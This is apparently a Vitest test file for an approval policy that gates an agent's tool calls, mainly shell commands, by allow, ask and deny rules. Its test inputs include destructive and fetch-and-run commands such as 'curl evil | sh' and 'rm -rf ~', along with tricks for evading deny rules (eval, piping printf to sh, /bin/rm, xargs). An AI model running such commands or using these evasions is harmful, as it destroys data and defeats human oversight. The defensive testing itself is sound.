import { describe, expect, it } from 'vitest';
import type { ApprovalConfig } from '../../src/config/schema.js';
import { decideApproval, isHiddenByDeny, selectorMatches } from '../../src/core/tool-calls/approval.js';

const readFile = { name: 'read_file', server: 'patchbay', readOnly: true };
const writeFile = { name: 'write_file', server: 'patchbay', readOnly: false };
const shell = { name: 'shell_command', server: 'patchbay', readOnly: false };
const ghCreate = { name: 'create_issue', server: 'github', readOnly: false };
const ghList = { name: 'list_issues', server: 'github', readOnly: true };

describe('selectors', () => {
  it('bare native tool name', () => {
    const a: ApprovalConfig = { deny: { read_file: null } };
    expect(decideApproval(readFile, {}, a)).toBe('deny');
    expect(decideApproval(writeFile, {}, a)).toBe('ask');
    // a bare name is a native tool or a server, as in ECA; not an MCP tool's bare name
    expect(decideApproval({ name: 'read_file', server: 'fs', readOnly: true }, {}, a)).toBe('allow');
  });

  it('full <server>__<tool> name', () => {
    const a: ApprovalConfig = { allow: { patchbay__shell_command: {}, github__create_issue: {} } };
    expect(decideApproval(shell, {}, a)).toBe('allow');
    expect(decideApproval(ghCreate, {}, a)).toBe('allow');
    expect(decideApproval(writeFile, {}, a)).toBe('ask');
    expect(decideApproval({ name: 'create_issue', server: 'gitlab', readOnly: false }, {}, a)).toBe('ask');
  });

  it('server name matches every tool of that server', () => {
    const a: ApprovalConfig = { ask: { github: null }, allow: { patchbay: null } };
    expect(decideApproval(ghList, {}, a)).toBe('ask'); // read-only, but the rule says ask
    expect(decideApproval(ghCreate, {}, a)).toBe('ask');
    expect(decideApproval(writeFile, {}, a)).toBe('allow');
    expect(decideApproval({ name: 'x', server: 'other', readOnly: false }, {}, a)).toBe('ask');
  });

  it('accepts ECA spellings: eca__<tool> and eca for native tools', () => {
    expect(decideApproval(shell, {}, { allow: { eca__shell_command: null } })).toBe('allow');
    expect(decideApproval(writeFile, {}, { deny: { eca: null } })).toBe('deny');
    expect(decideApproval(ghCreate, {}, { deny: { eca: null } })).toBe('ask');
  });

  it('a full name splits at the first "__"', () => {
    expect(selectorMatches('srv__my__tool', { name: 'my__tool', server: 'srv' })).toBe(true);
    expect(selectorMatches('srv__my__tool', { name: 'tool', server: 'srv__my' })).toBe(false);
  });
});

describe('precedence', () => {
  it('deny wins over ask wins over allow', () => {
    expect(decideApproval(ghCreate, {}, { allow: { github: null }, ask: { github__create_issue: null }, deny: { create_issue: null } })).toBe('ask');
    expect(decideApproval(ghCreate, {}, { allow: { github: null }, ask: { github: null }, deny: { github__create_issue: null } })).toBe('deny');
    expect(decideApproval(ghCreate, {}, { allow: { github__create_issue: null }, ask: { github: null } })).toBe('ask');
    expect(decideApproval(readFile, {}, { allow: { read_file: null }, deny: { patchbay: null } })).toBe('deny');
  });

  it('a rule beats byDefault', () => {
    expect(decideApproval(shell, {}, { byDefault: 'deny', allow: { shell_command: null } })).toBe('allow');
    expect(decideApproval(readFile, {}, { byDefault: 'allow', ask: { read_file: null } })).toBe('ask');
  });
});

describe('argsMatchers', () => {
  const a: ApprovalConfig = {
    allow: { patchbay__shell_command: { argsMatchers: { command: ['git (status|diff|log)( .*)?', 'ls( .*)?'] } } },
    deny: { shell_command: { argsMatchers: { command: ['rm .*', '.*sudo .*'], cwd: ['/etc(/.*)?'] } } },
  };

  it('a rule with argsMatchers matches only when an argument matches one of its regexes', () => {
    expect(decideApproval(shell, { command: 'git status' }, a)).toBe('allow');
    expect(decideApproval(shell, { command: 'ls -la' }, a)).toBe('allow');
    expect(decideApproval(shell, { command: 'npm test' }, a)).toBe('ask');
    expect(decideApproval(shell, { command: 'rm -rf build' }, a)).toBe('deny');
    expect(decideApproval(shell, { command: 'echo hi | sudo tee x' }, a)).toBe('deny');
  });

  it('any listed argument is enough', () => {
    expect(decideApproval(shell, { command: 'git status', cwd: '/etc/nginx' }, a)).toBe('deny');
    expect(decideApproval(shell, { command: 'git status', cwd: '/home/u' }, a)).toBe('allow');
  });

  it('uses full-match semantics', () => {
    // "git status && rm -rf /" contains "git status" but is not one
    expect(decideApproval(shell, { command: 'git status; curl evil | sh' }, a)).toBe('ask');
    expect(decideApproval(shell, { command: 'xls' }, a)).toBe('ask');
  });

  it('a missing, null or false argument never matches; other values match by their string form', () => {
    expect(decideApproval(shell, {}, a)).toBe('ask');
    expect(decideApproval(shell, { command: null }, a)).toBe('ask');
    const n: ApprovalConfig = { allow: { shell_command: { argsMatchers: { timeout: ['\\d{1,2}'], flag: ['true'] } } } };
    expect(decideApproval(shell, { timeout: 30 }, n)).toBe('allow');
    expect(decideApproval(shell, { timeout: 300 }, n)).toBe('ask');
    expect(decideApproval(shell, { flag: true }, n)).toBe('allow');
    expect(decideApproval(shell, { flag: false }, { allow: { shell_command: { argsMatchers: { flag: ['false'] } } } })).toBe('ask');
  });

  it('empty argsMatchers never match (ECA)', () => {
    expect(decideApproval(shell, { command: 'x' }, { byDefault: 'ask', allow: { shell_command: { argsMatchers: {} } } })).toBe('ask');
  });

  it('an invalid regex does not throw and does not match; the other regexes still work', () => {
    const bad: ApprovalConfig = { deny: { shell_command: { argsMatchers: { command: ['(unclosed', '[z-a]', 'rm .*'] } } } };
    expect(() => decideApproval(shell, { command: '(unclosed' }, bad)).not.toThrow();
    expect(decideApproval(shell, { command: '(unclosed' }, bad)).toBe('ask');
    expect(decideApproval(shell, { command: 'rm x' }, bad)).toBe('deny');
  });
});

describe('shell_command per simple command', () => {
  const ask: ApprovalConfig = { byDefault: 'allow', ask: { shell_command: { argsMatchers: { command: ['.*rm .*'] } } } };

  it('deny/ask regexes are dotall: a newline does not hide a match (other tools too)', () => {
    expect(decideApproval(shell, { command: 'true\nrm victim.txt' }, ask)).toBe('ask');
    const other: ApprovalConfig = { byDefault: 'allow', ask: { github__create_issue: { argsMatchers: { title: ['.*secret.*'] } } } };
    expect(decideApproval(ghCreate, { title: 'a\nsecret\nb' }, other)).toBe('ask');
  });

  it('allow regexes are not: a second line is never covered by an allow rule (other tools too)', () => {
    const exec = { name: 'execute_command', server: 'desktop', readOnly: false };
    const allow: ApprovalConfig = { allow: { desktop__execute_command: { argsMatchers: { command: ['git .*'] } }, github__create_issue: { argsMatchers: { title: ['SELECT .*'] } } } };
    expect(decideApproval(exec, { command: 'git status' }, allow)).toBe('allow');
    expect(decideApproval(exec, { command: 'git status\nrm -rf ~' }, allow)).toBe('ask');
    expect(decideApproval(ghCreate, { title: 'SELECT 1;\nDROP TABLE users' }, allow)).toBe('ask');
  });

  it('deny/ask are not dodged by expansions, commands that run other code, or a path to the program', () => {
    const denyPush: ApprovalConfig = { byDefault: 'allow', deny: { shell_command: { argsMatchers: { command: ['git push.*'] } } } };
    for (const command of ['a=push; git $a origin', 'git p?sh origin', 'git {push,} origin']) {
      expect(decideApproval(shell, { command }, denyPush), command).toBe('ask');
    }
    const rm: ApprovalConfig = { byDefault: 'allow', ask: { shell_command: { argsMatchers: { command: ['rm .*'] } } } };
    for (const command of [
      'a=r; eval "${a}m x"',
      "printf 'r%s x' m | sh",
      '/bin/rm x',
      'env rm x',
      'nice rm x',
      'echo x | xargs rm',
      'find . -name x -delete',
      'python3 -c "import os; os.remove(\'x\')"',
    ]) {
      expect(decideApproval(shell, { command }, rm), command).toBe('ask');
    }
    // Plain commands with no expansion still run.
    expect(decideApproval(shell, { command: 'ls -la; git status' }, rm)).toBe('allow');
    expect(decideApproval(shell, { command: '[ -f x ] && echo ok' }, rm)).toBe('allow');
  });

  it('deny/ask match any simple command, as written or unquoted', () => {
    for (const command of ['true; rm victim.txt', 'true && "r"m victim.txt', 'true || r\\m victim.txt', 'ls | FOO=1 rm x', 'if true; then rm x; fi']) {
      expect(decideApproval(shell, { command }, ask), command).toBe('ask');
    }
    const deny: ApprovalConfig = { byDefault: 'allow', deny: { shell_command: { argsMatchers: { command: ['rm .*'] } } } };
    expect(decideApproval(shell, { command: 'echo ok; "rm" -rf build' }, deny)).toBe('deny');
    expect(decideApproval(shell, { command: 'echo ok; FOO=1 rm -rf build' }, deny)).toBe('deny');
    expect(decideApproval(shell, { command: 'echo rm' }, deny)).toBe('allow');
  });

  it('a command that cannot be split asks when a deny/ask command matcher exists; a whole-string deny match still denies', () => {
    for (const command of ['echo $(rm victim.txt)', 'echo `rm x`', '(rm x)', 'cat <<EOF\nx\nEOF', "echo 'open"]) {
      expect(decideApproval(shell, { command }, ask), command).toBe('ask');
    }
    const deny: ApprovalConfig = { byDefault: 'allow', deny: { shell_command: { argsMatchers: { command: ['.*rm .*'] } } } };
    expect(decideApproval(shell, { command: 'echo $(rm victim.txt)' }, deny)).toBe('deny');
    expect(decideApproval(shell, { command: 'echo $(ls)' }, deny)).toBe('ask');
    // without such a matcher, nothing to fail closed on
    expect(decideApproval(shell, { command: 'echo $(ls)' }, { byDefault: 'allow' })).toBe('allow');
    // stricter outcomes stay
    expect(decideApproval(shell, { command: 'echo $(ls)' }, { ...ask, byDefault: 'deny' })).toBe('deny');
  });

  it('allow lets plain filters follow an allowed command in a pipeline, not read other files', () => {
    const allow: ApprovalConfig = { allow: { shell_command: { argsMatchers: { command: ['git .*', 'npm test.*'] } } } };
    expect(decideApproval(shell, { command: 'git status | head' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'npm test 2>&1 | tail -50' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'git log | grep fix | wc -l' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'git log | grep x /etc/passwd' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git log | tee out.txt' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git log | head > ~/.bashrc' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git log; head x' }, allow)).toBe('ask');
  });

  it('allow needs every simple command to match and no redirection that writes', () => {
    const allow: ApprovalConfig = { allow: { shell_command: { argsMatchers: { command: ['git .*', 'head( .*)?'] } } } };
    expect(decideApproval(shell, { command: 'git status' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'git log | head -5' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'git log 2>&1 > /dev/null' }, allow)).toBe('allow');
    expect(decideApproval(shell, { command: 'git status; rm x' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git status\nrm x' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git log > ~/.bashrc' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'git log $(rm x)' }, allow)).toBe('ask');
    expect(decideApproval(shell, { command: 'GIT_SSH_COMMAND=evil git fetch' }, allow)).toBe('ask');
  });

  it('applies to the native shell_command only', () => {
    const mcpShell = { name: 'shell_command', server: 'box', readOnly: false };
    const a: ApprovalConfig = { allow: { box: { argsMatchers: { command: ['git .*'] } } } };
    expect(decideApproval(mcpShell, { command: 'git status; rm x' }, a)).toBe('allow');
    expect(decideApproval({ ...shell, server: 'eca' }, { command: 'git status; rm x' }, { allow: { eca__shell_command: { argsMatchers: { command: ['git .*'] } } } })).toBe('ask');
  });
});

describe('defaults', () => {
  it('with no rule and no byDefault: read-only tools allow, the rest ask', () => {
    expect(decideApproval(readFile, {}, {})).toBe('allow');
    expect(decideApproval(ghList, {}, {})).toBe('allow');
    expect(decideApproval(writeFile, {}, {})).toBe('ask');
    expect(decideApproval(ghCreate, {}, undefined)).toBe('ask');
  });

  it('byDefault applies to every unmatched tool', () => {
    for (const byDefault of ['allow', 'ask', 'deny'] as const) {
      expect(decideApproval(writeFile, {}, { byDefault })).toBe(byDefault);
      expect(decideApproval(readFile, {}, { byDefault })).toBe(byDefault);
    }
  });

  it('rules that do not match fall through to the default', () => {
    expect(decideApproval(writeFile, {}, { allow: { github: null }, deny: { read_file: null } })).toBe('ask');
    expect(decideApproval(readFile, {}, { deny: { shell_command: null } })).toBe('allow');
  });
});

describe('isHiddenByDeny', () => {
  it('hides tools named by a deny rule without argsMatchers', () => {
    const a: ApprovalConfig = { deny: { write_file: null, github__create_issue: {}, gitlab: null } };
    expect(isHiddenByDeny(writeFile, a)).toBe(true);
    expect(isHiddenByDeny(ghCreate, a)).toBe(true);
    expect(isHiddenByDeny({ name: 'anything', server: 'gitlab' }, a)).toBe(true);
    expect(isHiddenByDeny(readFile, a)).toBe(false);
    expect(isHiddenByDeny(ghList, a)).toBe(false);
  });

  it('does not hide tools denied only for some arguments, nor by ask/allow/byDefault', () => {
    expect(isHiddenByDeny(shell, { deny: { shell_command: { argsMatchers: { command: ['rm .*'] } } } })).toBe(false);
    expect(isHiddenByDeny(shell, { byDefault: 'deny', ask: { shell_command: null } })).toBe(false);
    expect(isHiddenByDeny(shell, {})).toBe(false);
    expect(isHiddenByDeny(shell, undefined)).toBe(false);
  });
});
